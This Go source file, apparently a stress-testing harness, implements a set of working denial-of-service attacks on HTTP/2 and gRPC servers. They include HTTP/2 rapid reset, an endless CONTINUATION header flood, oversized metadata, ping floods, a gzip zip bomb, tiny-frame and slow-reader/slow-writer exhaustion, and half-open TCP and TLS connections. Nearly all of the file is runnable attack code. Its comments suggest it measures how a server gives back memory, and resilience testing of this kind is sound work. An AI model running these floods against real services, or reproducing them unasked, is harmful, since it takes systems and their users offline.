package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one kind of it.
type Attack struct {
	Name string
	// Says what it does, in a few words.
	Says string
	// Attackers at once.
	Attackers int
	// one is what one of them does until ctx ends or it is thrown out; then it begins again.
	one func(ctx context.Context, t Target)
}

// Attacks returns all kinds, those that take most memory last, so that it shows who
// gives it back; halfOpen is how many connections say nothing.
func Attacks(halfOpen int) []Attack {
	return []Attack{
		{"half-open-tcp", "connections that say nothing", halfOpen, halfOpenTCP},
		{"half-open-tls", "connections that end amid their handshake", halfOpen, halfOpenTLS},
		{"metadata-1mib", "calls with 1 MiB of metadata", 4, bigMetadata},
		{"header-flood", "headers that never end", 4, headerFlood},
		{"rapid-reset", "calls that are begun and canceled", 4, rapidReset},
		{"ping-flood", "pings without an end", 4, pingFlood},
		{"huge-batch", "batches of the greatest size, as fast as can be", 4, hugeBatch},
		{"zip-bomb", "packed batches of a million empty requests", 4, zipBomb},
		{"garbage", "requests of 60 KiB that mean nothing", 4, garbage},
		{"small-frames", "callers that send requests of 2 MiB byte by byte", 4, smallFrames},
		{"slow-readers", "callers that ask and never read", 20, slowReader},
		{"slow-writers", "callers that never end their requests of 2 MiB", 40, slowWriter},
	}
}

// Run attacks until ctx ends, and returns when every attacker has left.
func (a Attack) Run(ctx context.Context, t Target) {
	var all sync.WaitGroup
	for range a.Attackers {
		all.Go(func() {
			for ctx.Err() == nil {
				a.one(ctx, t)
				select {
				case <-ctx.Done():
				case <-time.After(100 * time.Millisecond): // who is thrown out comes again
				}
			}
		})
	}
	all.Wait()
}

// until closes c when ctx ends, and returns what to defer.
func until(ctx context.Context, c net.Conn) func() {
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	return func() {
		stop()
		_ = c.Close()
	}
}

// stay waits until the other side has enough.
func stay(c net.Conn) { _, _ = c.Read(make([]byte, 1)) }

func halfOpenTCP(ctx context.Context, t Target) {
	c, err := t.dial(ctx)
	if err != nil {
		return
	}
	defer until(ctx, c)()
	stay(c)
}

func halfOpenTLS(ctx context.Context, t Target) {
	c, err := t.dial(ctx)
	if err != nil {
		return
	}
	defer until(ctx, c)()
	// The head of a record that would hold 512 bytes of a ClientHello, and few of them.
	_, _ = c.Write([]byte{0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3})
	stay(c)
}

// with connects and attacks until an error; the server's answers are read
// unless window is 0.
func with(ctx context.Context, t Target, method string, window uint32, attack func(r *raw) error) {
	r, err := t.connect(ctx, method, window)
	if err != nil {
		return
	}
	defer until(ctx, r.Conn)()
	go r.drain()
	_ = attack(r) // ends by being thrown out
}

// each calls f with one stream after another.
func each(ctx context.Context, f func(stream uint32) error) error {
	for stream := uint32(1); ctx.Err() == nil && stream < 1<<30; stream += 2 {
		if err := f(stream); err != nil {
			return err
		}
	}
	return ctx.Err()
}

func slowWriter(ctx context.Context, t Target) {
	const size = 2<<20 - 1024
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		some := make([]byte, 60<<10) // within the window that every stream has
		streams := uint32(0)
		err := each(ctx, func(stream uint32) error {
			if streams++; streams > 500 {
				return context.DeadlineExceeded
			}
			if err := r.begin(stream); err != nil {
				return err
			}
			return r.data(stream, append(message(size), some...), false)
		})
		<-ctx.Done()
		return err
	})
}

// smallFrames has the server keep an object for each byte.
func smallFrames(ctx context.Context, t Target) {
	const size, streams, once = 2<<20 - 1024, 100, 1600 // once fill a TLS record
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		frames := map[uint32][]byte{}
		for stream := uint32(1); stream < 2*streams; stream += 2 {
			if err := r.begin(stream); err != nil {
				return err
			}
			if err := r.data(stream, message(size), false); err != nil {
				return err
			}
			frame := []byte{0, 0, 1, 0, 0, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream), 0}
			frames[stream] = bytes.Repeat(frame, once)
		}
		for sent := 0; sent < size-once && ctx.Err() == nil; sent += once {
			for _, some := range frames {
				if _, err := r.Conn.Write(some); err != nil {
					return err
				}
			}
		}
		<-ctx.Done()
		return ctx.Err()
	})
}

func slowReader(ctx context.Context, t Target) {
	r, err := t.connect(ctx, t.Batch, 0)
	if err != nil {
		return
	}
	defer until(ctx, r.Conn)()
	streams := 0
	_ = each(ctx, func(stream uint32) error {
		if streams++; streams > 500 {
			<-ctx.Done()
			return ctx.Err()
		}
		if err := r.begin(stream); err != nil {
			return err
		}
		return r.data(stream, append(message(len(t.BatchRequest)), t.BatchRequest...), true)
	})
}

func bigMetadata(ctx context.Context, t Target) {
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		block := r.block(t.Method, hpack.HeaderField{Name: "x-much", Value: strings.Repeat("\x01\xff", 1<<19)})
		return each(ctx, func(stream uint32) error {
			const piece = 16 << 10
			err := r.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block[:piece]})
			for rest := block[piece:]; err == nil; rest = rest[piece:] {
				if len(rest) <= piece {
					return r.WriteContinuation(stream, true, rest)
				}
				err = r.WriteContinuation(stream, false, rest[:piece])
			}
			return err
		})
	})
}

func headerFlood(ctx context.Context, t Target) {
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		err := r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: r.headers})
		field := r.block("/", hpack.HeaderField{Name: "x-a", Value: "b"})
		for err == nil && ctx.Err() == nil {
			err = r.WriteContinuation(1, false, field)
		}
		return err
	})
}

func rapidReset(ctx context.Context, t Target) {
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		return each(ctx, func(stream uint32) error {
			if err := r.begin(stream); err != nil {
				return err
			}
			return r.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	})
}

func pingFlood(ctx context.Context, t Target) {
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		var err error
		for err == nil && ctx.Err() == nil {
			err = r.WritePing(false, [8]byte{})
		}
		return err
	})
}

func hugeBatch(ctx context.Context, t Target) {
	with(ctx, t, t.Batch, 1<<30, func(r *raw) error {
		// What comes back is read, and the connection's own window is as large as can be.
		if err := r.WriteWindowUpdate(0, 1<<30); err != nil {
			return err
		}
		return each(ctx, func(stream uint32) error {
			if err := r.begin(stream); err != nil {
				return err
			}
			return r.data(stream, append(message(len(t.BatchRequest)), t.BatchRequest...), true)
		})
	})
}

// zipBomb sends little that becomes much, before anybody has looked at it.
func zipBomb(ctx context.Context, t Target) {
	const size = 2<<20 - 1024
	with(ctx, t, t.Batch, 1<<20, func(r *raw) error {
		var packed bytes.Buffer
		pack := gzip.NewWriter(&packed)
		_, err := pack.Write(bytes.Repeat([]byte{10, 0}, size/2)) // field 1, of no bytes
		if err = errors.Join(err, pack.Close()); err != nil {
			return err
		}
		r.headers = r.block(t.Batch, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
		bomb := append(message(packed.Len()), packed.Bytes()...)
		bomb[0] = 1 // it is compressed
		return each(ctx, func(stream uint32) error {
			if err := r.begin(stream); err != nil {
				return err
			}
			return r.data(stream, bomb, true)
		})
	})
}

func garbage(ctx context.Context, t Target) {
	const size = 60 << 10 // a stream's first window; more needs the server's leave
	with(ctx, t, t.Method, 1<<20, func(r *raw) error {
		junk := append(message(size), make([]byte, size)...)
		return each(ctx, func(stream uint32) error {
			if err := r.begin(stream); err != nil {
				return err
			}
			return r.data(stream, junk, true)
		})
	})
}
